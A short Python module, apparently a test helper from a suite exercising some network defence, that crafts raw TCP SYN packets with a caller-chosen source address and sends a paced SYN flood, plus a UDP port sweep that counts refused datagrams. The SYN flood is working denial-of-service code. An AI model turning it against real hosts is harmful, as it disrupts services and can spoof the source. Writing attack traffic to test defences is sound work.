"""Many attempts that are to be refused."""

import socket
import struct
import time

from attacks import checksum, ipv4_packet

STEP = 0.01  # seconds


def syn(source, source_port, address, port):
    header = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(address) + struct.pack("!HH", 6, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    return ipv4_packet(source, address, socket.IPPROTO_TCP, header)


def flood_syn(address, port, source, attempts, seconds):
    """Evenly, each from a port of its own."""
    packets = [syn(source, 1024 + number % 60000, address, port) for number in range(attempts)]
    each = max(1, int(attempts * STEP / seconds))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        start = time.monotonic()
        for number, packet in enumerate(packets):
            s.sendto(packet, (address, 0))
            if number % each == each - 1:
                time.sleep(max(0, start + number // each * STEP - time.monotonic()))
    return attempts


def scan_udp(address, first, last):
    """A datagram to each port but its own; how many of them were refused."""
    refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((address, 0))
        own = s.getsockname()[1]
        for port in range(first, last):
            if port == own:
                continue
            try:
                s.sendto(b"x", (address, port))
            except OSError:
                refused += 1
    return refused
